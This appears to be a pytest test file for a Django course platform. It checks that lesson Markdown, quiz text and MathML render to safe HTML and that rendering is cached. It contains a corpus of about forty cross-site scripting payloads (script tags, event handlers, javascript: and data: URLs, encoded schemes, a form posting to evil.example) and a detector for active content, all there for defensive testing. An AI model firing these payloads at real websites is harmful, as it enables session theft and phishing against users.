"""Untrusted Markdown becomes safe HTML: the XSS corpus, the constructs a lesson
needs, and the cache."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from http import HTTPStatus

import pytest
from django.core.cache import cache

from courses import rendering
from courses.documents import parse_document
from courses.models import Lesson
from courses.rendering import render_markdown
from courses.services import course_refresh_counts
from courses.tests.test_demo import DEMO_PATHS
from tests.factories import make_course

# Each payload tries to run script, load active content, restyle the page or
# post a form; in Markdown, in raw HTML, or mixed.
XSS_CORPUS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)><circle r=10></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="&#106;avascript:alert(1)">entity encoded</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">hex</a>',
    '<a href="java\tscript:alert(1)">tab split</a>',
    "[markdown link](javascript:alert(1))",
    "[mixed case](JAVASCRIPT:alert(1))",
    "[entity](&#106;avascript:alert(1))",
    "[data url](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vbscript](vbscript:msgbox(1))",
    "![image](javascript:alert(1))",
    '![onerror](x" onerror="alert(1))',
    '[title quote](https://example.com "a" onmouseover="alert(1)")',
    "<a href=x onmouseover=alert(1)>hover</a>",
    "<body onload=alert(1)>",
    '<div onclick="alert(1)">click me</div>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<video><source onerror="alert(1)"></video>',
    "```html\n<script>alert('in code is text')</script>\n```",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "ol", "p", "pre",
    "s", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
    "tr", "ul",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
# The page's own markup around the rendered content (the one script is checked
# separately).
PAGE_TAGS = {
    "html", "head", "meta", "title", "link", "body", "header", "nav", "main", "footer",
    "article", "aside", "section", "details", "summary", "button", "script", "form", "input",
}  # fmt: skip


class ElementCollector(HTMLParser):
    """Every element and attribute a browser would build from the HTML (text,
    escaped or not, is only text)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def unsafe_parts(
    html: str, *, allowed_tags: set[str] = SAFE_TAGS, site_forms: bool = False
) -> list[str]:
    """The elements and attributes in `html` that could run script, load active
    content, restyle the page or submit data (`site_forms`: except the page's own
    forms, which post to Athena's paths)."""
    collector = ElementCollector()
    collector.feed(html)
    collector.close()
    problems = []
    for tag, attrs in collector.elements:
        if tag not in allowed_tags:
            problems.append(f"<{tag}>")
        for name, value in attrs:
            if site_forms and tag == "form" and name == "action" and value.startswith("/"):
                continue
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "action"}:
                problems.append(f"<{tag} {name}>")
            if name in {"href", "src", "xlink:href"} and value is not None:
                # Browsers drop ASCII whitespace and control characters in schemes.
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = squeezed.split(":", 1)[0] if ":" in squeezed else ""
                if scheme and "/" not in scheme and scheme not in SAFE_SCHEMES:
                    problems.append(f"<{tag} {name}={value}>")
    return problems


def test_the_checker_spots_active_content():
    assert unsafe_parts('<p>fine <a href="https://example.com">x</a></p>') == []
    assert unsafe_parts("&lt;script&gt;alert(1)&lt;/script&gt;") == []
    assert unsafe_parts("<script>x</script>") == ["<script>"]
    assert unsafe_parts('<img src="x" onerror="y">') == ["<img onerror>"]
    assert unsafe_parts('<a href="&#106;avascript:x">') == ["<a href=javascript:x>"]
    assert unsafe_parts('<a href=" java\tscript:x">') == ["<a href= java\tscript:x>"]
    assert unsafe_parts('<p style="x">') == ["<p style>"]


def test_the_corpus_is_big_enough():
    assert len(XSS_CORPUS) >= 25
    assert len(set(XSS_CORPUS)) == len(XSS_CORPUS)


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_payload_does_not_survive_rendering(payload):
    html = rendering.render_markdown_uncached(payload)
    assert unsafe_parts(html) == []
    assert unsafe_parts(str(render_markdown(payload))) == []


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_payload_inside_markdown_structure_does_not_survive(payload):
    text = f"## Heading\n\n> {payload}\n\n- item {payload}\n\n| a |\n|---|\n| {payload} |\n"
    assert unsafe_parts(rendering.render_markdown_uncached(text)) == []


@pytest.mark.django_db
def test_no_payload_survives_the_lesson_page(client):
    course = make_course(modules=1, lessons=1, quizzes=1)
    lesson = Lesson.objects.get(module__course=course)
    lesson.content = {"type": "MARKDOWN", "value": "\n\n".join(XSS_CORPUS)}
    lesson.title = "<script>alert('title')</script>"
    lesson.save()
    module = lesson.module
    module.description = "<img src=x onerror=alert(1)>"
    module.save()
    course.description = '<a href="javascript:alert(1)">x</a>'
    course.save()
    course_refresh_counts(course_id=course.pk)  # the rows were written round the services
    for url in (lesson.get_absolute_url(), module.get_absolute_url(), course.get_absolute_url()):
        response = client.get(url)
        assert response.status_code == HTTPStatus.OK
        html = response.content.decode()
        # The page's own scripts are the static theme and menu scripts only.
        assert re.findall(r"<script[^>]*>", html) == [
            '<script src="/static/js/theme.js">',
            '<script src="/static/js/menu.js" defer>',
        ]
        assert unsafe_parts(html, allowed_tags=SAFE_TAGS | PAGE_TAGS, site_forms=True) == [], url
        collector = ElementCollector()
        collector.feed(html)
        for tag, attrs in collector.elements:
            attributes = dict(attrs)
            if tag == "link":
                assert attributes["href"].startswith("/static/"), attributes
            if tag == "form":  # the page's own forms (enroll) post to Athena only
                assert attributes["action"].startswith("/"), attributes
                assert attributes["method"] == "post", attributes
            if tag == "input":
                assert attributes["name"] == "csrfmiddlewaretoken", attributes
            if tag == "meta":
                assert set(attributes) <= {"charset", "name", "content"}, attributes
                assert attributes.get("name") in {None, "viewport", "color-scheme"}, attributes
    assert "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt;" in html


def test_lesson_markdown_keeps_what_lessons_need():
    text = (
        "# Title\n\n## Section\n\n### Sub\n\nSome **bold**, *italic*, ~~old~~ and `code`.\n\n"
        "> A quote\n\n1. one\n2. two\n\n- a\n- b\n\n"
        "| x | y |\n|---|---|\n| 1 | 2 |\n\n"
        "[link](https://example.com) and <https://example.org>\n\n"
        "```python\ndef add(a, b):\n    return a + b  # sum\n```\n\n"
        "```\nplain text <b>not bold</b>\n```\n"
    )
    html = rendering.render_markdown_uncached(text)
    for fragment in (
        "<h1>Title</h1>",
        "<h2>Section</h2>",
        "<h3>Sub</h3>",
        "<strong>bold</strong>",
        "<em>italic</em>",
        "<s>old</s>",
        "<code>code</code>",
        "<blockquote>",
        "<ol>",
        "<ul>",
        '<div class="table-scroll" tabindex="0"><table>',
        "</table></div>",
        "<td>2</td>",
        '<a href="https://example.com" rel="noopener noreferrer nofollow">link</a>',
        '<span class="k">def</span>',
        '<span class="nf">add</span>',
        '<span class="c1"># sum</span>',
        "plain text &lt;b&gt;not bold&lt;/b&gt;",
    ):
        assert fragment in html, fragment
    # Highlighted code sits in pre > code, where pygments.css expects it.
    assert re.search(r"<pre tabindex=\"0\"><code[^>]*><span class=\"k\">def</span>", html)


def test_tables_and_code_blocks_are_focusable_scroll_boxes():
    """On a phone a wide table or long code line scrolls inside its own box, which
    the keyboard can reach; indented code and several tables too."""
    html = rendering.render_markdown_uncached(
        "| a |\n|---|\n| 1 |\n\ntext\n\n| b |\n|---|\n| 2 |\n\n    indented code\n"
    )
    assert html.count('<div class="table-scroll" tabindex="0"><table>') == 2
    assert html.count("</table></div>") == 2
    assert '<pre tabindex="0"><code>indented code' in html
    # An author's own HTML stays text: no focusable boxes of their making.
    typed = rendering.render_markdown_uncached('<div tabindex="0">x</div>\n\n<pre>y</pre>')
    assert "<div" not in typed
    assert "<pre" not in typed


def test_unknown_language_is_escaped_not_highlighted():
    html = rendering.render_markdown_uncached("```nosuchlanguage\n<b>x</b>\n```")
    assert "&lt;b&gt;x&lt;/b&gt;" in html
    assert "<span" not in html


def test_rendering_is_cached_and_an_edit_renders_afresh(monkeypatch):
    cache.clear()
    calls = []
    original = rendering.render_markdown_uncached

    def counting(text):
        calls.append(text)
        return original(text)

    monkeypatch.setattr(rendering, "render_markdown_uncached", counting)
    assert str(render_markdown("# One")) == "<h1>One</h1>\n"
    assert str(render_markdown("# One")) == "<h1>One</h1>\n"
    assert calls == ["# One"]
    assert str(render_markdown("# One, edited")) == "<h1>One, edited</h1>\n"
    assert calls == ["# One", "# One, edited"]


def test_empty_and_missing_text_render_empty():
    assert str(render_markdown("")) == ""
    assert str(render_markdown(None)) == ""


# Quiz questions and options: one line of Markdown through the same sanitiser.


def test_inline_markdown_keeps_code_emphasis_and_links_without_blocks():
    html = rendering.render_inline_markdown_uncached(
        "Use `finally`, *really* **always**, see [docs](https://docs.python.org)"
    )
    assert "<code>finally</code>" in html
    assert "<em>really</em>" in html
    assert "<strong>always</strong>" in html
    assert '<a href="https://docs.python.org" rel="noopener noreferrer nofollow">docs</a>' in html
    assert "<p>" not in html
    blocks = rendering.render_inline_markdown_uncached("# Not a heading\n- not a list\n```")
    for tag in ("<p>", "<h1>", "<ul>", "<li>", "<pre>"):
        assert tag not in blocks
    assert "# Not a heading" in blocks


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_payload_does_not_survive_inline_rendering(payload):
    assert unsafe_parts(rendering.render_inline_markdown_uncached(payload)) == []
    assert unsafe_parts(str(rendering.render_inline_markdown(payload))) == []


def test_inline_markdown_is_cached_apart_from_block_markdown():
    cache.clear()
    text = "`cached` option"
    inline = rendering.render_inline_markdown(text)
    block = render_markdown(text)
    assert inline == "<code>cached</code> option"
    assert block == "<p><code>cached</code> option</p>\n"
    assert rendering.render_inline_markdown(text) == inline


def test_demo_quiz_options_with_backticks_render_as_code():
    quizzes = [
        item
        for path in DEMO_PATHS
        for module in parse_document(path.read_bytes()).modules
        for item in module.items
        if hasattr(item, "options")
    ]
    with_backticks = [quiz for quiz in quizzes if any("`" in option for option in quiz.options)]
    assert len(with_backticks) >= 8
    for quiz in with_backticks:
        for text in (quiz.question, *quiz.options):
            html = rendering.render_inline_markdown_uncached(text)
            assert "`" not in html, text
        assert any("<code>" in rendering.render_inline_markdown_uncached(o) for o in quiz.options)


# Maths: LaTeX between dollars becomes MathML on the server.

MATH_TAGS = SAFE_TAGS | rendering.MATHML_TAGS


def test_inline_and_display_maths_become_mathml():
    html = rendering.render_markdown_uncached(
        "Bernoulli: $p^k (1-p)^{1-k}$.\n\n$$\n\\bar{X} = \\frac{1}{n}\\sum_{i=1}^n X_i\n$$\n"
    )
    assert '<span class="math inline"><math xmlns="http://www.w3.org/1998/Math/MathML"' in html
    assert "<msup><mi>p</mi><mi>k</mi></msup>" in html
    assert '<div class="math block" tabindex="0">' in html
    assert 'display="block"' in html
    assert "<mfrac>" in html
    assert "$" not in html
    assert unsafe_parts(html, allowed_tags=MATH_TAGS) == []


@pytest.mark.parametrize(
    "text",
    ["It costs $5 and $10 each.", "Between $20-$30 a month.", "Save $1,000, then $2,000."],
)
def test_dollars_as_money_stay_text(text):
    html = rendering.render_markdown_uncached(text)
    assert "<math" not in html
    assert html == f"<p>{text}</p>\n"


def test_an_escaped_dollar_is_a_dollar_beside_real_maths():
    html = rendering.render_markdown_uncached(r"A \$4.99 fee and $x^2$.")
    assert html.startswith('<p>A $4.99 fee and <span class="math inline"><math')


@pytest.mark.parametrize("latex", ["\\frac{", "{" * 3000, "x^{", "\\left( x", "\\begin{matrix}"])
def test_invalid_latex_shows_its_escaped_source(latex):
    html = rendering.render_markdown_uncached(f"See $${latex}$$ <b>here</b>.")
    assert '<code class="math-source">' in html
    assert "<math" not in html
    assert "&lt;b&gt;here&lt;/b&gt;" in html
    assert unsafe_parts(html, allowed_tags=MATH_TAGS) == []


def test_invalid_latex_reads_as_code():
    html = rendering.render_markdown_uncached("Broken: $\\frac{1}{$ here")
    assert '<code class="math-source">$\\frac{1}{$</code>' in html


def test_maths_in_inline_markdown_for_quizzes():
    html = rendering.render_inline_markdown_uncached(r"What is $\operatorname{Var}(X)$?")
    assert "<math" in html
    assert "<p>" not in html


def test_the_sanitiser_keeps_mathml_but_not_active_attributes():
    html = rendering._sanitise(
        '<math display="block" onclick="alert(1)"><mi href="javascript:alert(1)" '
        'style="color:red" mathvariant="normal">x</mi><mo stretchy="false">(</mo>'
        '<maction actiontype="statusline"><mi>y</mi></maction><semantics>'
        '<annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
        "</semantics></math>"
    )
    assert '<math display="block">' in html
    assert '<mi mathvariant="normal">x</mi>' in html
    assert '<mo stretchy="false">(</mo>' in html
    assert unsafe_parts(html, allowed_tags=MATH_TAGS) == []
    assert "maction" not in html
    assert "annotation" not in html


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_payload_straight_into_the_sanitiser_does_not_survive(payload):
    """Second line of defence: even raw HTML that got past markdown-it is made safe
    with the MathML allow-list in place."""
    assert unsafe_parts(rendering._sanitise(payload), allowed_tags=MATH_TAGS) == []


def test_demo_statistics_course_writes_its_formulas_as_maths():
    path = next(path for path in DEMO_PATHS if "statistics" in path.name)
    lessons = [
        item.markdown
        for module in parse_document(path.read_bytes()).modules
        for item in module.items
        if hasattr(item, "markdown")
    ]
    discrete = next(text for text in lessons if "Bernoulli" in text)
    assert "$p^k (1-p)^{1-k}$" in discrete
    for text in lessons:
        html = rendering.render_markdown_uncached(text)
        assert "<math" in html
        assert "math-source" not in html  # every formula parses
        assert "$" not in re.sub(r"<math.*?</math>", "", html, flags=re.S)
